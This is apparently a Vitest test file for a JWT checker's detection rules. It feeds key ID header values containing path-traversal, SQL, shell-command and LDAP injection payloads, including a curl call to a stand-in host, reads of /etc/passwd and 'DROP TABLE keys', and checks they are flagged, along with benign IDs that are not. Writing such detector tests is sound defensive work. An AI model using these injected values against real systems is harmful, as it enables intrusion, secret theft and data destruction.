import { describe, expect, it } from 'vitest';
import { decode } from '../../decode/decode';
import { makeToken } from '../../token.fixture';
import { check } from '../check';

function listRules(kid: string): readonly string[] {
  return check(decode(makeToken({ alg: 'HS256', kid })))
    .map(({ rule }) => rule)
    .filter((rule) => /^HDR-KID-(?:PATH|SQL|CMD|LDAP-URL)$/.test(rule));
}

describe('a key ID', () => {
  it.each([
    ['HDR-KID-PATH', '../../etc/passwd'],
    ['HDR-KID-PATH', '..\\..\\windows\\win.ini'],
    ['HDR-KID-PATH', '%2e%2e%2fkeys'],
    ['HDR-KID-PATH', '..%2fkeys'],
    ['HDR-KID-PATH', '/dev/null'],
    ['HDR-KID-PATH', '/etc/key'],
    ['HDR-KID-PATH', '/proc/sys/kernel/randomize_va_space'],
    ['HDR-KID-PATH', '/usr/share/javascript/jquery/keys'],
    ['HDR-KID-PATH', 'C:\\keys\\one'],
    ['HDR-KID-PATH', 'file:///etc/key'],
    ['HDR-KID-SQL', "x' UNION SELECT 'secret'"],
    ['HDR-KID-SQL', "x'/**/UNION/**/ALL/**/SELECT/**/1"],
    ['HDR-KID-SQL', "' OR '1'='1"],
    ['HDR-KID-SQL', "x') or (1=1"],
    ['HDR-KID-SQL', '1 OR 1=1'],
    ['HDR-KID-SQL', "x'--"],
    ['HDR-KID-SQL', "x'; --"],
    ['HDR-KID-SQL', '1; DROP TABLE keys'],
    ['HDR-KID-SQL', "x'||(select 1)"],
    ['HDR-KID-SQL', "1 WAITFOR DELAY '0:0:5'"],
    ['HDR-KID-CMD', 'key; cat /etc/passwd'],
    ['HDR-KID-CMD', 'key|/usr/bin/curl http://evil.test/'],
    ['HDR-KID-CMD', 'key && ping -c 3 evil.test'],
    ['HDR-KID-CMD', 'key;whoami'],
    ['HDR-KID-CMD', '$(sleep 5)'],
    ['HDR-KID-CMD', '`id`'],
    ['HDR-KID-CMD', 'key\nrm -rf /tmp/a'],
    ['HDR-KID-LDAP-URL', '*)(uid=*'],
    ['HDR-KID-LDAP-URL', '(&(cn=a)(cn=b))'],
    ['HDR-KID-LDAP-URL', 'ldap://evil.test/o=keys'],
  ])('is reported as %s: %s', (rule, kid) => expect(listRules(kid)).toContain(rule));

  it.each([
    'NzbLsXh8uDCcd--6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
    'SGVsbG8vd29ybGQrYmFzZTY0/1A=',
    'f81d4fae-7dec-11d0-a765-00a0c91e6bf6',
    'arn:aws:kms:eu-west-1:111122223333:key/1234abcd',
    'did:web:id.test#key-1',
    'urn:key:2024;v=1',
    "O'Brien & Sons, key 2 (new)",
    'CN=Signer, O=Shop | 2024',
    '"prod" and "test"',
    'keys..2024',
  ])("isn't reported as an injection: %s", (kid) => expect(listRules(kid)).toEqual([]));
});
